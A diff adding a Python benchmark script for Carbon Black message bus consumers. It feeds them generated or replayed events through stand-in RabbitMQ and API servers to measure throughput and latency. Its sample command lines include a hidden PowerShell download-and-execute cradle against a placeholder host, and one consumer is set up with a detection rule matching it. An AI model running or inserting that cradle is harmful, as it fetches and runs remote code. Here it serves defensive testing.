@@ -0,0 +1,671 @@
+#!/usr/bin/env python
+#
+# The MIT License (MIT)
+#
+# Copyright (c) 2016 Carbon Black
+#
+# Permission is hereby granted, free of charge, to any person obtaining a copy
+# of this software and associated documentation files (the "Software"), to deal
+# in the Software without restriction, including without limitation the rights
+# to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
+# copies of the Software, and to permit persons to whom the Software is
+# furnished to do so, subject to the following conditions:
+#
+# The above copyright notice and this permission notice shall be included in all
+# copies or substantial portions of the Software.
+#
+# THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+# IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+# FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
+# AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
+# LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
+# OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
+# SOFTWARE.
+#
+#
+#  Message bus consumer benchmark
+#
+#  Measures how many messages per second the message bus consumers can keep
+#  up with, and how long their message handlers take:
+#
+#    blacklist    auto_blacklist_from_watchlist.py     (watchlist hits)
+#    isolate      auto_isolate_from_watchlist.py       (watchlist hits)
+#    move_policy  move_policy_from_mbus.py             (process events)
+#    regmod       retrieve_regmod_values.py            (regmod events)
+#    filemod      download_all_files_with_extension.py (filemod events)
+#
+#  Messages are either generated (JSON watchlist hits, and CbEventMsg
+#  protobufs) or replayed from a capture recorded from a real server with
+#  --record.  They are handed to each consumer's callback directly (-m direct),
+#  or through an in-process stand-in for RabbitMQ (-m broker), which also
+#  exercises the consumer's queueing, threads and acks.  The CB and EP servers
+#  are replaced by stand-ins that answer every API call after --http-latency
+#  milliseconds, so no server is needed except to record.
+#
+#  Handler latency is the time a consumer's callback takes per message.  The
+#  consumers that hand work to background threads (blacklist, isolate, regmod,
+#  filemod) return before that work is done; "drain s" is the time until all
+#  of it is done, and "api calls" the calls made to the stand-in servers.
+#
+#  The consumers need the same modules to be installed as when they run for
+#  real (pika, requests, cbapi, ...); targets that can't be imported are
+#  skipped.
+#
+#  USAGE:
+#
+#    python mbus_benchmark.py -t all -n 10000
+#    python mbus_benchmark.py -t regmod -m broker -n 50000 -r 0.05
+#    python mbus_benchmark.py --record regmod.capture -s 192.168.0.10 -u cb -p <password> \
+#        -k ingress.event.regmod -n 100000
+#    python mbus_benchmark.py -t regmod --replay regmod.capture
+#
+#  EXAMPLE OUTPUT:
+#
+#    target       mode     messages      msg/sec   p50 ms   p99 ms   max ms  drain s  api calls
+#    blacklist    direct      10000      21504.3    0.041    0.102    1.342     2.05        101
+#
+
+import os
+import sys
+import json
+import math
+import time
+import base64
+import random
+import shutil
+import tempfile
+import threading
+import traceback
+from optparse import OptionParser
+
+TARGETS = ["blacklist", "isolate", "move_policy", "regmod", "filemod"]
+
+# registry paths for generated regmod events; the first ones match
+# data/autoruns_regexes.txt
+REGPATHS = ["\\registry\\machine\\software\\microsoft\\windows\\currentversion\\run\\updater",
+            "\\registry\\machine\\system\\currentcontrolset\\services\\benchmark\\imagepath",
+            "\\registry\\user\\s-1-5-21-1004\\software\\microsoft\\windows\\currentversion\\runonce\\setup",
+            "\\registry\\machine\\software\\classes\\clsid\\{00000000-0000-0000-0000-000000000000}\\inprocserver32",
+            "\\registry\\user\\s-1-5-21-1004\\software\\microsoft\\windows\\currentversion\\explorer\\recentdocs",
+            "\\registry\\machine\\software\\microsoft\\cryptography\\rng\\seed"]
+
+FILEPATHS = ["c:\\windows\\minidump\\benchmark.dmp",
+             "c:\\users\\benchmark\\appdata\\local\\temp\\~df1234.tmp",
+             "c:\\users\\benchmark\\documents\\report.docx",
+             "c:\\windows\\prefetch\\benchmark.exe-12345678.pf"]
+
+COMMANDLINES = ["\"c:\\windows\\system32\\notepad.exe\" c:\\users\\benchmark\\notes.txt",
+                "powershell.exe -nop -w hidden -c iex (new-object net.webclient).downloadstring('http://x')",
+                "c:\\windows\\system32\\svchost.exe -k netsvcs"]
+
+
+def load_sensor_events():
+    try:
+        import cbapi.legacy.util.sensor_events_pb2 as cpb
+    except ImportError:
+        import cbapi.util.sensor_events_pb2 as cpb
+    return cpb
+
+
+def generate_messages(kind, count, modify_ratio, sensors, seed):
+    """
+    Return count (routing key, content type, body) messages of the given kind:
+    watchlist, process, regmod or filemod.  A modify_ratio fraction of the
+    regmod and filemod events are modifications, the ones the consumers act
+    on.
+    """
+    rand = random.Random(seed)
+    messages = []
+
+    if kind == "watchlist":
+        # a small pool of md5s, as the same binaries hit watchlists over and over
+        md5s = ["%032x" % rand.getrandbits(128) for i in range(100)]
+        for i in range(count):
+            routing_key = rand.choice(["watchlist.hit.binary", "watchlist.hit.process"])
+            docs = []
+            for j in range(rand.randint(1, 5)):
+                md5 = rand.choice(md5s)
+                docs.append({"md5": md5, "process_md5": md5, "sensor_id": rand.randint(1, sensors)})
+            body = json.dumps({"watchlist_id": 1, "watchlist_name": "Benchmark", "docs": docs})
+            messages.append((routing_key, "application/json", body))
+        return messages
+
+    cpb = load_sensor_events()
+    for i in range(count):
+        x = cpb.CbEventMsg()
+        sensor_id = rand.randint(1, sensors)
+        x.header.version = 1
+        x.header.timestamp = 130000000000000000 + i
+        x.header.process_guid = rand.getrandbits(63)
+        x.header.process_path = "c:\\windows\\system32\\benchmark.exe"
+        x.env.endpoint.SensorId = sensor_id
+        x.env.endpoint.SensorHostName = "BENCHMARK-%d" % sensor_id
+
+        if kind == "process":
+            x.process.pid = rand.randint(4, 65535)
+            x.process.commandline = rand.choice(COMMANDLINES)
+        elif kind == "regmod":
+            x.regmod.action = 2 if rand.random() < modify_ratio else 1
+            x.regmod.utf8_regpath = rand.choice(REGPATHS)
+        elif kind == "filemod":
+            x.filemod.action = 2 if rand.random() < modify_ratio else 1
+            s = x.strings.add()
+            s.utf8string = rand.choice(FILEPATHS)
+            s.string_type = 1
+        messages.append(("ingress.event.%s" % kind, "application/protobuf", x.SerializeToString()))
+
+    return messages
+
+
+def load_capture(filename):
+    messages = []
+    with open(filename, "r") as capture:
+        for line in capture:
+            if line.strip():
+                message = json.loads(line)
+                messages.append((message["routing_key"], message["content_type"], base64.b64decode(message["body"])))
+    return messages
+
+
+def save_capture(filename, messages):
+    with open(filename, "w") as capture:
+        for routing_key, content_type, body in messages:
+            capture.write(json.dumps({"routing_key": routing_key, "content_type": content_type,
+                                      "body": base64.b64encode(body)}) + "\n")
+
+
+def record_capture(opts):
+    """
+    Save the next --count messages from a real server's message bus.
+    """
+    import pika
+
+    credentials = pika.PlainCredentials(opts.username, opts.password)
+    connection = pika.BlockingConnection(pika.ConnectionParameters(opts.server, 5004, '/', credentials))
+    channel = connection.channel()
+    queue_name = channel.queue_declare(queue='', exclusive=True, auto_delete=True).method.queue
+    channel.queue_bind(exchange='api.events', queue=queue_name, routing_key=opts.routing_key)
+
+    messages = []
+    try:
+        for method_frame, header_frame, body in channel.consume(queue_name):
+            messages.append((method_frame.routing_key, header_frame.content_type, body))
+            channel.basic_ack(delivery_tag=method_frame.delivery_tag)
+            if len(messages) >= opts.count:
+                break
+    except KeyboardInterrupt:
+        pass
+    channel.cancel()
+    connection.close()
+
+    save_capture(opts.record, messages)
+    print "Recorded %d messages to %s" % (len(messages), opts.record)
+
+
+class Frame(object):
+    def __init__(self, **kwargs):
+        self.__dict__.update(kwargs)
+
+
+class LocalBroker(object):
+    """
+    In-process stand-in for the pika module and the server's RabbitMQ,
+    delivering a fixed list of messages to whichever consumer connects.
+    Supports both the callback (basic_consume/start_consuming) and the
+    generator (consume) styles of pika's BlockingChannel.
+    """
+    def __init__(self, messages):
+        self.messages = messages
+        self.unacked = set()
+        self.prefetch = 0
+
+    # the pika module
+    def PlainCredentials(self, username, password):
+        return None
+
+    def ConnectionParameters(self, *args, **kwargs):
+        return None
+
+    def BlockingConnection(self, parameters):
+        return self
+
+    # BlockingConnection
+    def channel(self):
+        return self
+
+    def close(self):
+        pass
+
+    # BlockingChannel
+    def queue_declare(self, queue='', **kwargs):
+        return Frame(method=Frame(queue=queue or "benchmark", message_count=0))
+
+    def queue_bind(self, **kwargs):
+        pass
+
+    def basic_qos(self, prefetch_count=0, **kwargs):
+        self.prefetch = prefetch_count
+
+    def basic_ack(self, delivery_tag=0, multiple=False):
+        if multiple:
+            self.unacked.difference_update([tag for tag in self.unacked if tag <= delivery_tag])
+        else:
+            self.unacked.discard(delivery_tag)
+
+    def basic_consume(self, callback, queue=None, **kwargs):
+        self.callback = callback
+
+    def start_consuming(self):
+        self.consuming = True
+        for delivery_tag, (routing_key, content_type, body) in enumerate(self.messages, 1):
+            if not self.consuming:
+                break
+            self.callback(self, Frame(delivery_tag=delivery_tag, routing_key=routing_key),
+                          Frame(content_type=content_type), body)
+
+    def stop_consuming(self):
+        self.consuming = False
+
+    def consume(self, queue, inactivity_timeout=None, **kwargs):
+        delivered = 0
+        while delivered < len(self.messages) or self.unacked:
+            if delivered < len(self.messages) and (not self.prefetch or len(self.unacked) < self.prefetch):
+                routing_key, content_type, body = self.messages[delivered]
+                delivered += 1
+                self.unacked.add(delivered)
+                yield (Frame(delivery_tag=delivered, routing_key=routing_key), Frame(content_type=content_type),
+                       body)
+            else:
+                # as when nothing arrives within the inactivity timeout
+                time.sleep(0.001)
+                yield None, None, None
+
+    def cancel(self):
+        pass
+
+
+class MockResponse(object):
+    def __init__(self, status_code=200, data=None, content=""):
+        self.status_code = status_code
+        self.data = data
+        self.content = content
+        self.text = json.dumps(data)
+
+    def json(self):
+        return self.data
+
+    def raise_for_status(self):
+        pass
+
+    def iter_content(self, chunk_size):
+        for i in range(0, len(self.content), chunk_size):
+            yield self.content[i:i + chunk_size]
+
+    def close(self):
+        pass
+
+
+class MockServer(object):
+    """
+    Stand-in for the CB Server and EP Server APIs the consumers call, as a
+    cbapi.CbApi, a bit9api.bit9Api and the requests module all at once.
+    Every call takes latency seconds.
+    """
+    server = "https://cb.benchmark"
+    token_header = {}
+    ssl_verify = False
+
+    def __init__(self, latency, file_size=0):
+        self.latency = latency
+        self.file_data = "B" * file_size
+        self.lock = threading.Lock()
+        self.calls = 0
+        self.active = 0
+
+        self.headers = {}
+        self.verify = False
+
+    def call(self):
+        with self.lock:
+            self.calls += 1
+            self.active += 1
+        if self.latency:
+            time.sleep(self.latency)
+        with self.lock:
+            self.active -= 1
+
+    # requests
+    def Session(self):
+        return self
+
+    def get(self, url, **kwargs):
+        self.call()
+        return MockResponse(data=[])
+
+    def post(self, url, **kwargs):
+        self.call()
+        return MockResponse(data={})
+
+    # cbapi.CbApi
+    def sensor_toggle_isolation(self, sensor_id, do_isolate):
+        self.call()
+        return True
+
+    def live_response_session_create(self, sensor_id):
+        self.call()
+        return {"id": sensor_id, "status": "active"}
+
+    def live_response_session_status(self, session_id):
+        self.call()
+        return {"id": session_id, "status": "active"}
+
+    def live_response_session_keep_alive(self, session_id):
+        self.call()
+
+    def live_response_session_command_post(self, session_id, command, command_object=None):
+        self.call()
+        return {"id": 1}
+
+    def live_response_session_command_get(self, session_id, command_id, wait=False):
+        self.call()
+        return {"id": command_id, "file_id": 1, "value": {"value_data": "c:\\windows\\system32\\benchmark.exe"}}
+
+    def live_response_session_command_get_file(self, session_id, file_id):
+        self.call()
+        return self.file_data
+
+    def cbapi_get(self, url, **kwargs):
+        self.call()
+        return MockResponse(content=self.file_data)
+
+    # bit9api.bit9Api
+    def search(self, api_obj, query=[]):
+        self.call()
+        if api_obj == 'v1/policy':
+            return [{"id": 2, "name": "Benchmark"}]
+        return [{"id": 1, "name": "BENCHMARK", "policyId": 1, "policyName": "Default"}]
+
+    def update(self, api_obj, data):
+        self.call()
+        return data
+
+
+class Target(object):
+    """
+    A consumer set up to be benchmarked: either a message bus handler taking
+    (routing_key, content_type, body), or a live response listener with a
+    consume_message(channel, method_frame, header_frame, body) method.
+    backlog() returns the amount of work the consumer has queued for its
+    background threads.
+    """
+    def __init__(self, name, kind, handler=None, listener=None, backlog=None, teardown=None):
+        self.name = name
+        self.kind = kind
+        self.handler = handler
+        self.listener = listener
+        self.backlog = backlog or (lambda: 0)
+        self.teardown = teardown
+
+
+def setup_target(name, opts, server):
+    if name == "blacklist":
+        import auto_blacklist_from_watchlist as module
+        module.requests = server
+        module.cbserver = "cb.benchmark"
+        module.cbtoken = "benchmark"
+        module.watchlistsdict = {"Benchmark": 1}
+        module.blacklister = module.BlacklistWriter()
+        return Target(name, "watchlist", handler=module.on_message, backlog=module.blacklister.queue.qsize)
+
+    if name == "isolate":
+        import auto_isolate_from_watchlist as module
+        module.cbserver = "cb.benchmark"
+        module.watchlistsdict = {"Benchmark": 1}
+        module.dispatcher = module.IsolationDispatcher(server, workers=opts.workers)
+        return Target(name, "watchlist", handler=module.on_message, backlog=module.dispatcher.queue.qsize)
+
+    if name == "move_policy":
+        import move_policy_from_mbus as module
+        module.action_triggers = module.TriggerRules(
+            {"Benchmark": {"rules": [("command_line", "iex.+?downloadstring")], "targetpolicy": "Benchmark"}})
+        module.policy_mover = module.PolicyMover(server)
+        return Target(name, "process", handler=module.on_message)
+
+    if name == "regmod":
+        import retrieve_regmod_values as module
+        regpaths_file = os.path.join(os.path.dirname(os.path.abspath(__file__)), "data", "autoruns_regexes.txt")
+        regexes = [line.strip() for line in open(regpaths_file) if line.strip()]
+        patch_pika(module.RegistryModWatcherAndValueGrabber, opts.broker)
+        listener = module.RegistryModWatcherAndValueGrabber(server.server, server, "benchmark", "benchmark",
+                                                            module.RegpathMatcher(regexes), False,
+                                                            workers=opts.workers)
+        return Target(name, "regmod", listener=listener, backlog=lambda: len(listener.active_sensor_ids),
+                      teardown=stop_listener)
+
+    if name == "filemod":
+        import download_all_files_with_extension as module
+        output_dir = tempfile.mkdtemp(prefix="mbus_benchmark-")
+        patch_pika(module.ExtensionFileWatcherAndGrabber, opts.broker)
+        listener = module.ExtensionFileWatcherAndGrabber(server.server, server, "benchmark", "benchmark", [".dmp"],
+                                                         output_dir, workers=opts.workers)
+
+        def teardown(target):
+            stop_listener(target)
+            shutil.rmtree(output_dir, ignore_errors=True)
+        return Target(name, "filemod", listener=listener, backlog=lambda: len(listener.pending), teardown=teardown)
+
+    raise ValueError("Unknown target %s" % name)
+
+
+def patch_pika(listener_class, broker):
+    """
+    Point the pika module used by the listener's cbapi base classes at the
+    broker stand-in.
+    """
+    for cls in listener_class.__mro__:
+        module = sys.modules.get(cls.__module__)
+        if module is not None and hasattr(module, "pika"):
+            module.pika = broker
+
+
+def stop_listener(target):
+    # stop the live response sessions without waiting for each in turn
+    for lrh in target.listener.lr_sessions_by_sensor_id.values():
+        lrh.stop(wait=False)
+    target.listener.lr_sessions_by_sensor_id.clear()
+    target.listener.stop(wait=target.listener.is_alive())
+
+
+class LatencyRecorder(object):
+    """
+    Wraps a callback, recording how long each call takes.
+    """
+    def __init__(self, callback):
+        self.callback = callback
+        self.lock = threading.Lock()
+        self.latencies = []
+        self.last_finished = None
+
+    def __call__(self, *args):
+        start = time.time()
+        try:
+            self.callback(*args)
+        except Exception:
+            traceback.print_exc()
+        finished = time.time()
+        with self.lock:
+            self.latencies.append(finished - start)
+            self.last_finished = finished
+
+
+def run_direct(target, messages):
+    if target.handler:
+        recorder = LatencyRecorder(target.handler)
+        for routing_key, content_type, body in messages:
+            recorder(routing_key, content_type, body)
+    else:
+        recorder = LatencyRecorder(target.listener.consume_message)
+        for delivery_tag, (routing_key, content_type, body) in enumerate(messages, 1):
+            recorder(None, Frame(delivery_tag=delivery_tag, routing_key=routing_key), Frame(content_type=content_type),
+                     body)
+    return recorder
+
+
+def run_broker(target, messages, opts):
+    if target.handler:
+        import mbus_helpers
+        mbus_helpers.pika = opts.broker
+        recorder = LatencyRecorder(target.handler)
+        consumer = mbus_helpers.MessageBusConsumer("cb.benchmark", "benchmark", "benchmark", ["#"], recorder,
+                                                   workers=opts.workers, prefetch=opts.prefetch, stats_interval=0)
+        consumer.run()
+    else:
+        recorder = LatencyRecorder(target.listener.consume_message)
+        target.listener.consume_message = recorder
+        worker = threading.Thread(target=target.listener.process)
+        worker.daemon = True
+        worker.start()
+        while len(recorder.latencies) < len(messages):
+            time.sleep(0.01)
+    return recorder
+
+
+def wait_for_background_work(target, server):
+    """
+    Wait until the consumer has no work queued and no API call in progress,
+    twice in a row, in case a worker is between taking work and calling.
+    """
+    idle = 0
+    while idle < 2:
+        time.sleep(0.01)
+        if target.backlog() or server.active:
+            idle = 0
+        else:
+            idle += 1
+
+
+def percentile(sorted_values, fraction):
+    index = int(math.ceil(fraction * len(sorted_values))) - 1
+    return sorted_values[max(index, 0)]
+
+
+def build_cli_parser():
+    parser = OptionParser(usage="%prog [options]",
+                          description="Benchmark the message bus consumers with generated or recorded messages")
+
+    parser.add_option("-t", "--target", action="store", default="all", dest="target",
+                      help="Consumer to benchmark: %s, or all (default)" % ", ".join(TARGETS))
+    parser.add_option("-m", "--mode", action="store", default="direct", dest="mode",
+                      help="direct: call the consumer's callback; broker: deliver through a local stand-in for " +
+                           "the message bus (default direct)")
+    parser.add_option("-n", "--count", action="store", default=10000, dest="count", type="int",
+                      help="Number of messages to generate, or to record (default 10000)")
+    parser.add_option("-r", "--modify-ratio", action="store", default=0.1, dest="modify_ratio", type="float",
+                      help="Fraction of generated regmod and filemod events that are modifications (default 0.1)")
+    parser.add_option("-S", "--sensors", action="store", default=200, dest="sensors", type="int",
+                      help="Number of distinct sensors in generated messages (default 200)")
+    parser.add_option("--seed", action="store", default=1, dest="seed", type="int",
+                      help="Random seed for generated messages")
+    parser.add_option("-l", "--http-latency", action="store", default=20, dest="http_latency", type="float",
+                      help="Milliseconds each stand-in CB/EP API call takes (default 20)")
+    parser.add_option("-f", "--file-size", action="store", default=1024, dest="file_size", type="int",
+                      help="Size in KB of the files the stand-in live response returns (default 1024)")
+    parser.add_option("-w", "--workers", action="store", default=4, dest="workers", type="int",
+                      help="Worker threads for the consumers that have them (default 4)")
+    parser.add_option("-P", "--prefetch", action="store", default=100, dest="prefetch", type="int",
+                      help="Prefetch for the shared message bus consumer in broker mode (default 100)")
+    parser.add_option("-v", "--verbose", action="store_true", default=False, dest="verbose",
+                      help="Show the consumers' output, which is discarded by default")
+    parser.add_option("--replay", action="store", default=None, dest="replay",
+                      help="Replay the messages in this capture file instead of generating them")
+    parser.add_option("--save", action="store", default=None, dest="save",
+                      help="Also save the generated messages of each target to <SAVE>.<target>")
+    parser.add_option("--record", action="store", default=None, dest="record",
+                      help="Record --count messages from a server's message bus to this capture file, then exit")
+    parser.add_option("-s", "--server", action="store", default=None, dest="server",
+                      help="CB server to record from")
+    parser.add_option("-u", "--username", action="store", default=None, dest="username",
+                      help="CB messaging username, to record")
+    parser.add_option("-p", "--password", action="store", default=None, dest="password",
+                      help="CB messaging password, to record")
+    parser.add_option("-k", "--routing-key", action="store", default="#", dest="routing_key",
+                      help="Routing key to record, e.g. ingress.event.regmod (default all)")
+    return parser
+
+
+def main(argv):
+    parser = build_cli_parser()
+    opts, args = parser.parse_args(argv)
+
+    if opts.record:
+        if not opts.server or not opts.username or not opts.password:
+            print "Recording requires --server, --username and --password"
+            sys.exit(-1)
+        record_capture(opts)
+        return
+
+    if opts.target == "all":
+        targets = TARGETS
+    elif opts.target in TARGETS:
+        targets = [opts.target]
+    else:
+        print "Unknown target %s; choose from %s or all" % (opts.target, ", ".join(TARGETS))
+        sys.exit(-1)
+    if opts.mode not in ("direct", "broker"):
+        print "Unknown mode %s; choose direct or broker" % (opts.mode)
+        sys.exit(-1)
+
+    replayed = load_capture(opts.replay) if opts.replay else None
+
+    # the consumers print a line or more per message, from several threads
+    out = sys.stdout
+    if not opts.verbose:
+        sys.stdout = open(os.devnull, "w")
+
+    print >> out, "%-12s %-8s %8s %12s %8s %8s %8s %8s %10s" % ("target", "mode", "messages", "msg/sec", "p50 ms",
+                                                               "p99 ms", "max ms", "drain s", "api calls")
+
+    for name in targets:
+        server = MockServer(opts.http_latency / 1000.0, opts.file_size * 1024)
+        try:
+            opts.broker = LocalBroker([])
+            target = setup_target(name, opts, server)
+
+            if replayed is not None:
+                messages = replayed
+            else:
+                messages = generate_messages(target.kind, opts.count, opts.modify_ratio, opts.sensors, opts.seed)
+                if opts.save:
+                    save_capture("%s.%s" % (opts.save, name), messages)
+            opts.broker.messages = messages
+        except Exception, e:
+            print >> out, "%-12s skipped: %s" % (name, e)
+            continue
+
+        start = time.time()
+        if opts.mode == "direct":
+            recorder = run_direct(target, messages)
+        else:
+            recorder = run_broker(target, messages, opts)
+        elapsed = (recorder.last_finished or time.time()) - start
+
+        # the time until the work handed to background threads is done too
+        wait_for_background_work(target, server)
+        drained = time.time() - start
+        calls = server.calls
+
+        if target.teardown:
+            target.teardown(target)
+
+        latencies = sorted(recorder.latencies)
+        if not latencies:
+            print >> out, "%-12s no messages" % (name)
+            continue
+        print >> out, "%-12s %-8s %8d %12.1f %8.3f %8.3f %8.3f %8.2f %10d" % (name, opts.mode, len(latencies),
+                                                                             len(latencies) / elapsed,
+                                                                             percentile(latencies, 0.50) * 1000,
+                                                                             percentile(latencies, 0.99) * 1000,
+                                                                             latencies[-1] * 1000, drained, calls)
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv[1:]))